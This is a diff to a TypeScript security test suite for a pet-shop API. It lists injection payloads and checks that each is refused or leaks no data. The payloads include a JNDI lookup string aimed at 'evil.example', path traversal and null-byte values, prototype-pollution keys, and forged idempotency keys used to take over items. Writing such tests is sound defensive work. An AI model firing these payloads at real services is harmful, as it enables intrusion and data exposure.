@@ -1,9 +1,8 @@
 import { refusals, sent } from './attack.ts';
 import type { Attack } from './attack.ts';
 import { OWN } from './setup.ts';
-import type { Setup } from './setup.ts';
 
-const { accessDenied, badRequest, missingToken } = refusals;
+const { accessDenied, missingToken } = refusals;
 
 const get = (query: string) => ({ method: 'GET', target: `/api/pets?${query}` });
 
@@ -17,9 +16,10 @@ const injections = [
   '%25',
   'dog\u0000',
   'dog\t0000000000000003',
+  'sold\t0000000000000003',
   'dog\n',
-  '../removed/',
-  'default/removed/',
+  '../sold',
+  'default/sold',
   '${jndi:ldap://evil.example}',
   '__proto__',
   'constructor',
@@ -64,8 +64,8 @@ const positions: [string, string | RegExp][] = [
   ['sort=newest&after=price-asc.2000.3', /^400 /],
   ['sort=price-asc&before=3', /^400 /],
   ['sort=price-asc&after=WyI5OTk5IiwxLCJkZWZhdWx0Il0', /^400 /],
-  ['sort=price-asc&after=price-asc.0.1&username=default/removed/', '200'],
-  ['sort=price-asc&after=price-asc.0.1&listPartition=default/removed/', '200'],
+  ['sort=price-asc&after=price-asc.0.1&username=other', '200'],
+  ['sort=price-asc&after=price-asc.0.1&listPartition=default/sold', '200'],
   ['sort=price-asc&limit=100&after=price-asc.0.1', '200'],
   ['sort=price-desc&limit=100&after=price-desc.100000000.9007199254740991', '200'],
   ['type=goldfish&limit=100&before=9007199254740991', '200'],
@@ -77,9 +77,10 @@ const unseen = positions.map(([query, refused]): Attack => ({
   refused,
   attempt: async (setup) => {
     const outcome = await setup.api(get(query));
-    const leaks = /"(buyer|soldBy|soldAt|listPartition|by[PT]\w+|username|timesPutBack)"/.exec(
-      outcome.body,
-    );
+    const leaks =
+      /"(buyer|soldBy|soldAt|removedAt|listPartition|by[A-Z]\w+|username|idempotencyKey)"/.exec(
+        outcome.body,
+      );
     return leaks ? { ...outcome, summary: `200 with ${leaks[0]}` } : outcome;
   },
 }));
@@ -93,52 +94,65 @@ const types = ['POST', 'PUT', 'DELETE', 'PATCH'].map((method) =>
   ),
 );
 
-const details = { type: 'dragon', price: 1 };
-
-const soldAtOf = async ({ keeper, shop }: Setup, id: number): Promise<string> => {
-  const headers = { 'x-id-token': keeper.idToken };
-  const { body } = await shop.call('/pets/purchase', { headers }, keeper);
-  return (body as { id: number; soldAt: string }[]).find((sale) => sale.id === id)?.soldAt ?? '';
-};
-
-const putBack = (
-  name: string,
-  id: number,
-  by: 'eve' | 'keeper',
-  refused: string | RegExp,
-  more: (setup: Setup) => object | Promise<object>,
-): Attack => ({
-  name,
-  refused,
-  attempt: async (setup) => {
-    const body = JSON.stringify({ ...details, ...(await more(setup)) });
-    return setup.api({ method: 'PUT', target: `/api/pets/${id}`, body }, setup[by]);
-  },
+const dragon = '{"type":"dragon","price":1}';
+const changing = (id: number, headers: Record<string, string> = {}) => ({
+  method: 'PUT',
+  target: `/api/pets/${id}`,
+  headers: { 'content-type': 'application/json', ...headers },
+  body: dragon,
 });
 
-const ofAnn = async (setup: Setup) => ({ soldAt: await soldAtOf(setup, OWN.ann) });
-const soldAt = '2026-01-31T12:00:00.000Z';
-
-const restored = [
-  putBack('a buyer puts a sold pet back', 77, 'eve', accessDenied, ofAnn),
-  putBack('a buyer puts the own pet back', OWN.eve, 'eve', accessDenied, () => ({ soldAt })),
-  putBack('a keeper puts back a pet that is on the list', OWN.ann, 'keeper', '200', ofAnn),
-  putBack('a keeper puts back a sale under the id of another', 1, 'keeper', /^404 /, ofAnn),
-  putBack('a keeper puts back a sale that there never was', 77, 'keeper', /^404 /, () => ({
-    soldAt,
-  })),
-  putBack('a keeper puts back a sale to a buyer of choice', 77, 'keeper', badRequest, () => ({
-    soldAt,
-    buyer: 'amazon|eve',
-  })),
-  ...['default', '../default', `${soldAt}/../..`, `\u0000${soldAt}`, `${soldAt}\n`].map((time) =>
-    putBack(
-      `a keeper puts back a sale at the time ${JSON.stringify(time)}`,
-      77,
+/** Ways to take over an item that is there, or to make a sale another. */
+const changed = [
+  sent('a buyer puts the own pet back', changing(OWN.eve), accessDenied, 'eve'),
+  sent('a buyer puts a removed pet back', changing(OWN.removed), accessDenied, 'eve'),
+  sent(
+    'a buyer adds a pet by a key',
+    changing(77, { 'if-none-match': '*', 'idempotency-key': 'eve' }),
+    accessDenied,
+    'eve',
+  ),
+  sent('a keeper changes a sold pet', changing(OWN.ann), /^409 /, 'keeper'),
+  sent(
+    'a keeper changes a sold pet, if it is there',
+    changing(OWN.ann, { 'if-match': '*' }),
+    /^409 /,
+    'keeper',
+  ),
+  sent(
+    'a keeper changes a sold and removed pet, if it is there',
+    changing(OWN.removed, { 'if-match': '*' }),
+    /^412 /,
+    'keeper',
+  ),
+  sent(
+    'a keeper adds a pet in place of a removed one',
+    changing(OWN.removed, { 'if-none-match': '*' }),
+    /^412 /,
+    'keeper',
+  ),
+  // Pets that came without a key have none that could be guessed.
+  ...['undefined', 'null', '0', 'a'.repeat(64)].map((key) =>
+    sent(
+      `a keeper claims the pet of another by the key ${key}`,
+      changing(1, { 'if-none-match': '*', 'idempotency-key': key }),
+      /^412 /,
       'keeper',
-      badRequest,
-      () => ({ soldAt: time }),
     ),
+  ),
+  ...['', '*', 'a b', '"x"', 'x:y', '#id', 'a'.repeat(65), 'a, b'].map((key) =>
+    sent(
+      `a keeper adds a pet by the key ${JSON.stringify(key)}`,
+      changing(77, { 'if-none-match': '*', 'idempotency-key': key }),
+      /^400 Idempotency-Key must be/,
+      'keeper',
+    ),
+  ),
+  sent(
+    'a keeper adds a pet under the last id that there is',
+    changing(Number.MAX_SAFE_INTEGER),
+    /^412 /,
+    'keeper',
   ),
 ];
 
@@ -147,5 +161,5 @@ export const queryAttacks: readonly Attack[] = [
   ...twice,
   ...unseen,
   ...types,
-  ...restored,
+  ...changed,
 ];
